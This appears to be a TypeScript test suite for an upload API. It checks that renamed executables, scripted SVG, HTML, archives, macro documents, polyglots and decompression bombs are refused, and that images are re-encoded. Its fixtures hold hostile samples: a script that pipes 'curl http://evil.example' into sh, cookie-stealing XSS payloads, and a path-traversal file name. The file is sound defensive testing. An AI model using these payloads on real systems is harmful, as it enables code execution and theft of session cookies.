/**
 * Uploads through the API (issue 5), on PGlite and PostgreSQL: files are judged by their bytes, not
 * their names or declared types. Renamed executables, scripts, SVG with script, HTML, archives,
 * macro documents, oversized files, truncated and corrupt images and polyglots are refused with
 * their own codes (never a 5xx); accepted images are re-encoded (metadata and any appended payload
 * gone) with a WebP thumbnail; temporary uploads expire unless attached and belong to their uploader.
 */
import { eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { files } from "#server/db/schema.ts";
import { purgeExpiredUploads } from "#server/files/repository.ts";
import { openTestApi, type TestApi } from "../support/api.ts";
import {
  call,
  cleanupProfileData,
  createUser,
  docxDocument,
  elfExecutable,
  jpegPhoto,
  multipart,
  pdfDocument,
  pngPicture,
  windowsExecutable,
  xlsxDocument,
  zipArchive,
  type TestUser,
  expectError,
} from "../support/profile.ts";

let api: TestApi;
let user: TestUser;
let owner: TestUser;
let productId: number;

/** The authorised download of a `/files/{id}` (or `/files/{id}?thumb=1`) url, as the caller of `token` (null: anonymous). */
function download(url: string, token: string | null = user.token): Promise<Response> {
  const match = url.match(/^\/files\/(\d+)(\?thumb=1)?$/);
  if (!match) throw new Error(`not a private file url: ${url}`);
  const headers: Record<string, string> = token ? { authorization: `Bearer ${token}` } : {};
  return Promise.resolve(api.app.request(`/api/files/${match[1]}/content${match[2] ?? ""}`, { headers }));
}

/** The stored bytes behind a `/files/{id}` url, read through the download route as its uploader. */
async function readStored(url: string, token: string | null = user.token): Promise<Buffer> {
  const response = await download(url, token);
  if (response.status !== 200) throw new Error(`not readable (${response.status}): ${url}`);
  expect(response.headers.get("cache-control")).toBe("private, no-store");
  return Buffer.from(await response.arrayBuffer());
}

/** The storage keys of file `id` (its `files` row). */
async function storedKeys(id: number): Promise<{ storageKey: string; thumbKey: string | null }> {
  const [row] = await api.db.select({ storageKey: files.storageKey, thumbKey: files.thumbKey }).from(files).where(eq(files.id, id));
  if (!row) throw new Error(`no file row ${id}`);
  return row;
}

function upload(bytes: Uint8Array, name: string, type?: string, token = user.token) {
  return call(api, "POST", "/api/files/common", multipart(bytes, name, type), token);
}

beforeAll(async () => {
  api = await openTestApi();
  await cleanupProfileData(api);
  user = await createUser(api, "uploader");
  owner = await createUser(api, "upload-owner");
  await owner.post("/api/profile/company", { name: { ru: "ООО «Загрузки»" }, country: "CN" });
  productId = (await owner.post("/api/profile/company/products", { name: { ru: "Товар с файлами" } })).body.data.id;
});

afterAll(async () => {
  if (api) {
    await cleanupProfileData(api);
    await api.close();
  }
});

describe("refused by content", () => {
  const svgWithScript = Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
  );
  const cases: [string, () => Promise<Buffer> | Buffer, string, string | undefined, number, string][] = [
    ["a Windows program renamed to .jpg", windowsExecutable, "photo.jpg", "image/jpeg", 415, "executable_not_allowed"],
    ["a Linux program renamed to .pdf", elfExecutable, "price.pdf", "application/pdf", 415, "executable_not_allowed"],
    [
      "a shell script renamed to .png",
      () => Buffer.from("#!/bin/sh\ncurl http://evil.example | sh\n"),
      "logo.png",
      "image/png",
      415,
      "executable_not_allowed",
    ],
    ["an SVG with a script", () => svgWithScript, "logo.svg", "image/svg+xml", 415, "svg_not_allowed"],
    ["an SVG renamed to .png", () => svgWithScript, "logo.png", "image/png", 415, "svg_not_allowed"],
    [
      "an HTML page renamed to .jpg",
      () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/profile')</script></body></html>"),
      "cat.jpg",
      "image/jpeg",
      415,
      "html_not_allowed",
    ],
    [
      "a zip archive renamed to .docx",
      () => zipArchive({ "readme.txt": "hi", "setup.exe": "MZ" }),
      "contract.docx",
      undefined,
      415,
      "archive_not_allowed",
    ],
    [
      "a zip that only looks like a Word file",
      () => zipArchive({ "word/document.xml": "<w/>" }),
      "contract.docx",
      undefined,
      415,
      "archive_not_allowed",
    ],
    [
      "a Word document with macros (.docm renamed)",
      () =>
        zipArchive({
          "[Content_Types].xml":
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
          "word/document.xml": "<w/>",
          "word/vbaProject.bin": "VBA",
        }),
      "contract.docx",
      undefined,
      415,
      "macros_not_allowed",
    ],
    [
      "a package with macros and no content types",
      () => zipArchive({ "word/document.xml": "<w/>", "word/vbaProject.bin": "VBA" }),
      "contract.docx",
      undefined,
      415,
      "macros_not_allowed",
    ],
    [
      "a gzip archive",
      () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c, 0x4a, 6, 0]),
      "data.pdf",
      undefined,
      415,
      "archive_not_allowed",
    ],
    [
      "a TIFF image",
      () =>
        sharp({ create: { width: 8, height: 8, channels: 3, background: "#000" } })
          .tiff()
          .toBuffer(),
      "scan.tiff",
      "image/tiff",
      415,
      "image_format_not_allowed",
    ],
    ["plain text", () => Buffer.from("just some words"), "notes.txt", "text/plain", 415, "file_type_not_allowed"],
    ["a truncated JPEG", async () => (await jpegPhoto(400, 300)).subarray(0, 600), "cut.jpg", "image/jpeg", 422, "image_corrupt"],
    [
      "a JPEG with garbage after its header",
      async () => Buffer.concat([(await jpegPhoto()).subarray(0, 20), Buffer.alloc(2000, 0x41)]),
      "bad.jpg",
      "image/jpeg",
      422,
      "image_corrupt",
    ],
    [
      "a GIF/JavaScript polyglot",
      () => Buffer.from("GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//"),
      "x.gif",
      "image/gif",
      422,
      "image_corrupt",
    ],
    [
      "a PDF/HTML polyglot",
      () => Buffer.from("%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"),
      "doc.pdf",
      "application/pdf",
      415,
      "polyglot_not_allowed",
    ],
    ["an empty file", () => Buffer.alloc(0), "empty.jpg", "image/jpeg", 400, "file_empty"],
  ];
  test.each(cases)("%s", async (_name, bytes, name, type, status, code) => {
    const before = await api.db.select({ id: files.id }).from(files).where(eq(files.uploadedBy, user.id));
    const reply = await upload(await bytes(), name, type);
    expect(reply.status).toBe(status);
    expect(reply.body.error.code).toBe(code);
    expect(reply.body.error.message).toBeTruthy();
    expect(await api.db.select({ id: files.id }).from(files).where(eq(files.uploadedBy, user.id))).toEqual(before);
  });

  test("an image over 10 MB and a document over 20 MB are refused with 413", async () => {
    const jpegHead = (await jpegPhoto(16, 16)).subarray(0, 100);
    const bigImage = Buffer.concat([jpegHead, Buffer.alloc(10 * 1024 * 1024 + 1, 0)]);
    const image = await upload(bigImage, "big.jpg");
    expectError(image, 413, "file_too_large");
    const bigPdf = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(21 * 1024 * 1024, 0x20), Buffer.from("\n%%EOF\n")]);
    const pdf = await upload(bigPdf, "big.pdf");
    expectError(pdf, 413, "file_too_large");
  });

  test("a body larger than any upload is refused before it is read (413), also when streamed without a length", async () => {
    const stream = new ReadableStream({
      start(controller) {
        for (let i = 0; i < 23; i++) controller.enqueue(new Uint8Array(1024 * 1024));
        controller.close();
      },
    });
    const response = await api.app.request("/api/files/common", {
      method: "POST",
      headers: { authorization: `Bearer ${user.token}`, "content-type": "multipart/form-data; boundary=x", "transfer-encoding": "chunked" },
      body: stream,
      duplex: "half",
    } as RequestInit);
    expect(response.status).toBe(413);
    expect(((await response.json()) as { error: { code: string } }).error.code).toBe("file_too_large");
  });

  test("an image of more than 40 megapixels is refused (decompression bomb)", async () => {
    const huge = await sharp({ create: { width: 8000, height: 6000, channels: 3, background: "#fff" } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const reply = await upload(huge, "huge.png");
    expectError(reply, 422, "image_too_large");
  });

  test("no file, or a body that is not multipart at all, is a 400", async () => {
    const form = new FormData();
    form.set("title.ru", "без файла");
    const none = await user.post("/api/files/common", form);
    expectError(none, 400, "file_required");
    const broken = await user.post("/api/files/common", '--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nabc', {
      "content-type": "multipart/form-data; boundary=x",
    });
    expect(broken.status).toBeLessThan(500);
    expect(broken.status).toBeGreaterThanOrEqual(400);
  });
});

describe("accepted", () => {
  test("JPEG, PNG, WebP, GIF and AVIF are re-encoded to WebP with a thumbnail, without metadata", async () => {
    const base = sharp({ create: { width: 640, height: 480, channels: 3, background: "#c0392b" } });
    const inputs: [string, Buffer][] = [
      ["photo.jpg", await jpegPhoto(640, 480)],
      ["picture.png", await pngPicture(300, 200)],
      [
        "picture.webp",
        await base
          .clone()
          .webp()
          .withExif({ IFD0: { Artist: "secret" } })
          .toBuffer(),
      ],
      ["animation.gif", await base.clone().gif().toBuffer()],
      ["picture.avif", await base.clone().avif({ quality: 50 }).toBuffer()],
    ];
    for (const [name, bytes] of inputs) {
      const reply = await upload(bytes, name, "application/octet-stream");
      expect(reply.status, name).toBe(201);
      expect(reply.body.data).toMatchObject({ kind: "image", mime: "image/webp", originalName: name });
      const stored = await sharp(await readStored(reply.body.data.url)).metadata();
      expect(stored.format).toBe("webp");
      expect(stored.exif, name).toBeUndefined();
      const thumb = await sharp(await readStored(reply.body.data.thumbUrl)).metadata();
      expect(Math.max(thumb.width!, thumb.height!)).toBeLessThanOrEqual(480);
    }
  });

  test("a JPEG carrying an HTML payload is stored without it (re-encoding removes the polyglot)", async () => {
    const polyglot = Buffer.concat([await jpegPhoto(), Buffer.from("<html><script>alert(document.cookie)</script></html>")]);
    const reply = await upload(polyglot, "innocent.jpg");
    expect(reply.status).toBe(201);
    expect(reply.body.data.url).toBe(`/files/${reply.body.data.id}`);
    expect(reply.body.data.thumbUrl).toBe(`/files/${reply.body.data.id}?thumb=1`);
    expect((await download(reply.body.data.url, owner.token)).status).toBe(404);
    expect((await download(reply.body.data.url, null)).status).toBe(404);
    const stored = await readStored(reply.body.data.url);
    expect(stored.includes("<script")).toBe(false);
    expect(stored.subarray(0, 4).toString()).toBe("RIFF");
  });

  test("PDF, DOCX and XLSX are stored as sent, whatever they are called", async () => {
    const cases: [string, Buffer, string][] = [
      ["scan.bin", pdfDocument(), "application/pdf"],
      ["contract.pdf", docxDocument(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"],
      ["prices", xlsxDocument(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"],
    ];
    for (const [name, bytes, mime] of cases) {
      const reply = await upload(bytes, name);
      expect(reply.status, name).toBe(201);
      expect(reply.body.data).toMatchObject({ kind: "document", mime, size: bytes.length, thumbUrl: null });
      expect((await readStored(reply.body.data.url)).equals(bytes)).toBe(true);
    }
  });

  test("file names are cleaned of folders and control characters", async () => {
    const reply = await upload(pdfDocument(), "..\\..\\etc/passwd\u0000<b>.pdf");
    expect(reply.status).toBe(201);
    expect(reply.body.data.originalName).toBe("passwdb.pdf");
    expect(reply.body.data.url).toBe(`/files/${reply.body.data.id}`);
    expect((await storedKeys(reply.body.data.id)).storageKey).toMatch(/^uploads\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.pdf$/);
    const response = await download(reply.body.data.url);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="passwdb.pdf"; filename*=UTF-8''passwdb.pdf`);
    expect((await response.arrayBuffer()).byteLength).toBe(pdfDocument().length);
  });
});

describe("temporary uploads", () => {
  test("are listed for their uploader only, attached once, deleted by their uploader only", async () => {
    const mine = await upload(pdfDocument(), "mine.pdf", undefined, owner.token);
    expect(mine.status).toBe(201);
    expect(new Date(mine.body.data.expiresAt).getTime()).toBeGreaterThan(Date.now() + 23 * 3600 * 1000);
    const list = await owner.get("/api/files/common");
    expect(list.body.data.map((f: { id: number }) => f.id)).toContain(mine.body.data.id);
    expect((await user.get("/api/files/common")).body.data.map((f: { id: number }) => f.id)).not.toContain(mine.body.data.id);

    const foreign = await upload(pdfDocument(), "foreign.pdf", undefined, user.token);
    const stolen = await owner.post(`/api/profile/company/products/${productId}/files`, { fileId: foreign.body.data.id });
    expectError(stolen, 404, "file_not_found");

    const attached = await owner.post(`/api/profile/company/products/${productId}/files`, {
      fileId: mine.body.data.id,
      title: { en: "Spec" },
    });
    expect(attached.status).toBe(201);
    expect(attached.body.data).toMatchObject({ id: mine.body.data.id, kind: "document", title: { en: "Spec" }, expiresAt: null });
    const twice = await owner.post("/api/profile/company/files", { fileId: mine.body.data.id });
    expect(twice.status).toBe(404);
    const wrongKind = await owner.post(`/api/profile/company/products/${productId}/files`, {
      fileId: (await upload(pdfDocument(), "d.pdf", undefined, owner.token)).body.data.id,
      kind: "image",
    });
    expectError(wrongKind, 415, "file_kind_mismatch");
    expect((await owner.get("/api/files/common")).body.data.map((f: { id: number }) => f.id)).not.toContain(mine.body.data.id);

    expect((await owner.delete(`/api/files/common/${foreign.body.data.id}`)).status).toBe(404);
    expect((await owner.delete(`/api/files/common/${mine.body.data.id}`)).status).toBe(404);
    const foreignKey = (await storedKeys(foreign.body.data.id)).storageKey;
    expect(await api.storage.get(foreignKey)).not.toBeNull();
    expect((await user.delete(`/api/files/common?id=${foreign.body.data.id}`)).status).toBe(200);
    expect(await api.storage.get(foreignKey)).toBeNull();
    expect((await download(foreign.body.data.url)).status).toBe(404);
  });

  test("an expired upload cannot be attached and is purged with its bytes; attached files are never purged", async () => {
    const temp = await upload(await jpegPhoto(), "old.jpg", undefined, owner.token);
    const keys = await storedKeys(temp.body.data.id);
    expect(keys.thumbKey).toBeTruthy();
    expect(await api.storage.get(keys.storageKey)).not.toBeNull();
    expect(await api.storage.get(keys.thumbKey!)).not.toBeNull();
    await api.db
      .update(files)
      .set({ expiresAt: new Date(Date.now() - 1000) })
      .where(eq(files.id, temp.body.data.id));
    const late = await owner.put("/api/profile/company/logo", { fileId: temp.body.data.id });
    expectError(late, 404, "file_not_found");
    const attached = await owner.get(`/api/profile/company/products/${productId}/files`);
    expect(await purgeExpiredUploads(api.db, api.storage)).toBeGreaterThanOrEqual(1);
    expect(await api.db.select().from(files).where(eq(files.id, temp.body.data.id))).toEqual([]);
    expect(await api.storage.get(keys.storageKey)).toBeNull();
    expect(await api.storage.get(keys.thumbKey!)).toBeNull();
    expect((await download(temp.body.data.url, owner.token)).status).toBe(404);
    expect((await owner.get(`/api/profile/company/products/${productId}/files`)).body.data).toEqual(attached.body.data);
  });
});
